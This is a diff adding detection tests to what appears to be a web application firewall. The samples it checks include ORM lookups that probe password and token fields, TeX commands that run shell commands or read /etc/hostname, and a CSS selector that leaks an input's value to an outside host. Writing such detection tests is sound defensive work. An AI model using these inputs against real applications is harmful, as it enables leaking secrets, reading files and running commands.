@@ -140,3 +140,33 @@ test('what only looks like such calls passes', () => {
   const refused = harmless.filter((value) => askAbout(value).length > 0)
   assert.deepEqual(refused, [])
 })
+
+test('a lookup in a secret field is refused, and one in another field is not', () => {
+  assert.ok(waf)
+  const names = ['owner__password__startswith', 'resetToken[startsWith]', 'q[user_password_digest_start]']
+  for (const name of names) assert.ok(ask(waf, { target: `/items?${name}=b` }).ids.includes(2211), name)
+  for (const name of ['title__startswith', 'token_start', 'secret.name', 'price[gte]', 'q[name_cont]'])
+    assert.deepEqual(ask(waf, { target: `/items?${name}=b` }).ids, [], name)
+})
+
+test('a command of TeX that reads, writes or runs is refused, and what is set in TeX is not', () => {
+  for (const value of [
+    String.raw`\immediate\write18{uptime}`,
+    String.raw`\input{/etc/hostname}`,
+    String.raw`\newread\b \openin\b=b.txt \read\b to \c`,
+    '\\catcode`b=12',
+  ])
+    assert.ok(askAbout(value).includes(2212), value)
+  for (const value of [
+    String.raw`\frac{a}{b} + \sqrt{c}`,
+    String.raw`\input{chapter1}`,
+    String.raw`\usepackage[utf8]{inputenc}`,
+    String.raw`C:\openings\immediately`,
+  ])
+    assert.deepEqual(askAbout(value), [], value)
+})
+
+test('a style that tells another server what a field holds is refused, and one that draws is not', () => {
+  assert.ok(askAbout('input[value^="b"]{background:url(//b.example/b)}').includes(2213))
+  assert.deepEqual(askAbout('a[href^="https"]{background:url(icon.png)}'), [])
+})
